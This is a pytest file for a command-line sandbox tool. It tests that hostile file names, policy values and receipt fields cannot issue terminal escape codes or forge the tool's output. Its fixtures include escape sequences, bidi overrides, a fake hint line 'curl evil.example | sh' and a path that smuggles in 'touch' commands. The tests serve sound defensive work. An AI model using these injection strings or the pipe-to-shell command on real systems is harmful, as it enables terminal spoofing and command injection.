"""Names that a program chose, shown by every command: none drives the terminal or feigns our words."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from stockade.cli import main
from support.screens import STOCKADE, Terminal

#: Clear the screen, set the title, C1 controls, text that runs backwards, a line that looks like ours.
HOSTILE = (
    "esc\x1b[2J\x1b]0;owned\x07",
    "return\rover\x7f",
    "c1\x9b2J\x9d0;owned\x9c",
    "bidi\u202etxt.exe\u2066\u200f",
    "line\nstockade: error: owned\nstockade: hint: curl evil.example | sh",
    "bytes\udcff\udc9b",
)
ALLOWED = {"\n", "\t"}


def harmless(shown: bytes) -> str:
    """The text, in which there must be nothing that a terminal obeys and no line that we did not mean."""
    text = shown.decode("utf-8", "replace").replace("\r\n", "\n")
    odd = {c for c in text if not c.isprintable() and c not in ALLOWED}
    assert not odd, (odd, text)
    for line in text.splitlines():
        assert not line.startswith(("stockade: error: owned", "stockade: hint: curl")), text
    return text


@pytest.fixture
def hostile(workspace: Path) -> Path:
    """A workspace whose own name, and those of its files, are hostile; some are the host's already."""
    place = workspace / HOSTILE[0] / HOSTILE[4]
    place.mkdir(parents=True)
    for name in HOSTILE[:2]:
        (place / name).write_text("of the host\n")
    return place


Call = Callable[..., tuple[int, str]]


@pytest.fixture
def call(
    hostile: Path, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> Callable[..., tuple[int, str]]:
    """Runs a command in this process; returns its exit code and all that it said, which is harmless."""
    monkeypatch.chdir(hostile)

    def called(*arguments: str) -> tuple[int, str]:
        capfd.readouterr()
        code = main(list(arguments))
        sys.stdout.flush()
        return code, harmless("".join(capfd.readouterr()).encode("utf-8", "surrogateescape"))

    return called


def changed(hostile: Path, *options: str) -> subprocess.CompletedProcess[bytes]:
    """What a run says that makes a file and a link of every name."""
    command = [STOCKADE, "run", *options, "--", "sh", "-c", SCRIPT, "sh", *HOSTILE]
    return subprocess.run(command, cwd=hostile, stdin=subprocess.DEVNULL, capture_output=True, check=True)


SCRIPT = 'for n in "$@"; do printf "%s" "$n" > "$n"; ln -s "$n" "$n.link"; done'


def test_changes_differences_and_commits(hostile: Path, call: Call) -> None:
    assert "12 changed paths" in harmless(changed(hostile).stderr)
    for form in ([], ["--stat"], ["--name-only"], ["--json"]):
        assert "owned" in call("diff", *form)[1]
    assert "owned" in call("workspaces")[1]
    (hostile / HOSTILE[0]).write_text("changed since\n")
    (hostile / HOSTILE[4]).write_text("made since\n")
    code, said = call("commit")
    assert code == 125 and "changed at" in said
    assert "not committed" in call("run", "-w", "@", "--commit", "--", "true")[1]
    assert call("commit", "--force", HOSTILE[0], "--force", HOSTILE[4])[0] in (0, 1)


def test_json_says_the_same_with_other_characters(hostile: Path) -> None:
    done = changed(hostile, "--json", "--discard")
    harmless(done.stdout)
    names = {change["path"] for change in json.loads(done.stdout)["changes"]}
    assert {name for name in HOSTILE if "\udcff" not in name} <= names


def test_what_runs_and_what_would_run(hostile: Path, call: Call) -> None:
    with subprocess.Popen(
        [STOCKADE, "run", "--", "sh", "-c", "echo; sleep 300", HOSTILE[0], HOSTILE[3]],
        cwd=hostile,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    ) as process:
        assert process.stdout is not None and process.stdout.readline() == b"\n"
        for form in ([], ["--json"]):
            assert "owned" in call("ps", *form)[1]
        call("kill", "--all")
        harmless(process.communicate(timeout=30)[1])
    assert "owned" in call("plan", "--", *HOSTILE)[1]


def test_errors_about_them(call: Call) -> None:
    for name in (f"no-{name}" for name in HOSTILE):
        for arguments in (["--read", name], ["--policy", name], ["--limit", name], ["-w", f"@{name}"]):
            assert call("run", *arguments, "--", "true")[0] == 125
        for command in ("diff", "commit", "discard", "snapshot", "kill", "trust"):
            assert call(command, name)[0] == 125


def test_on_a_terminal_nothing_of_them_is_exact(hostile: Path, call: Call) -> None:
    changed(hostile, "-q")
    for form in ("--patch", "-z"):
        with Terminal([STOCKADE, "diff", "--no-pager", form], hostile) as terminal:
            assert terminal.code() == 0
            assert "owned" in harmless(terminal.shown)
    call("discard")


#: What hides or turns text, in the words of a receipt's maker: they are part of what was signed.
UNSEEN = "\x7f\x85\x9b2J\u2028\u2029\u202e\u2066\u200b\u200d\ufeff\U000e0041"


def test_the_callers_own_words_in_a_receipt(hostile: Path, call: Call, tmp_path: Path) -> None:
    words = [word for name in ("action", "words") for word in ("--who", f"{name}=owned{UNSEEN}")]
    for name in HOSTILE:
        call("run", "-q", "--discard", *words, "--who", f"agent={name}", "--", "true")
        for form in ([], ["--json"]):
            said = call("receipts", "show", "last", *form)[1]
            assert json.loads(said)["predicate"]["who"]["action"] == f"owned{UNSEEN}"
        for command in (["receipts"], ["receipts", "--json"], ["verify", "last"], ["logs"]):
            call(*command)
        with Terminal([STOCKADE, "receipts", "show", "last"], hostile) as terminal:
            assert terminal.code() == 0
            assert "owned" in harmless(terminal.shown)


def test_policies_that_somebody_else_wrote(hostile: Path, call: Call) -> None:
    (hostile / "a.toml").write_text(f'read = ["/srv/{UNSEEN}?"]\nenv = {{ A = "{UNSEEN[2:]}" }}\n')
    (hostile / "b.toml").write_text(f'[env]\n"B{UNSEEN[2:]}" = "x\\nstockade: error: owned"\n')
    for command in (["check", "a.toml"], ["check", "b.toml"], ["diff", "a.toml", "b.toml"]):
        for form in ([], ["--json"]):
            call("policy", *command, *form)
    (hostile / "stockade.toml").write_text(f"# {UNSEEN[2:]}\nread = ['/srv/{UNSEEN[2:]}?']\n")
    call("trust")
    call("trust", "--list")
    call("trust", "--revoke")
    call("run", "--policy", "b.toml", "--", "true")
    call("doctor", "--json")


def test_a_line_of_ours_that_a_name_begins_is_set_in(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from stockade.cli.ui import output

    monkeypatch.setattr(output.Verbosity, "quiet", False)
    output.say(f"warning: {HOSTILE[4]}")
    output.error(HOSTILE[4], hint=HOSTILE[4])
    lines = harmless(capsys.readouterr().err.encode()).splitlines()
    assert len(lines) == 9
    ours = ("stockade: warning: line", "stockade: error: line", "stockade: hint: line")
    assert all(line in ours or line.startswith("stockade:   ") for line in lines)


def test_commands_that_are_suggested_are_quoted(
    workspace: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A name in a hint is pasted into a shell, perhaps behind sudo."""
    from stockade.cli.ui import output

    place = workspace / "x; touch owned; `touch owned`"
    place.mkdir()
    monkeypatch.chdir(place)
    (place / "stockade.toml").write_text('read = ["/srv?", "/opt?", "/etc"]\n')
    assert main(["run", "--", "true"]) == 125
    hint = capsys.readouterr().err.splitlines()[-1]
    assert hint.endswith(f"stockade trust {shlex.quote(str(place / 'stockade.toml'))}")
    error = OSError(13, "Permission denied", str(place))
    assert output.advice(error) == f"`ls -ld {shlex.quote(str(place))}` shows who has access"
    if os.geteuid():
        monkeypatch.chdir(workspace)
        place.chmod(0)
        assert main(["run", "-w", str(place), "--", "true"]) == 125
        place.chmod(0o700)
        assert f"`chmod u+rwx {shlex.quote(str(place))}`" in capsys.readouterr().err
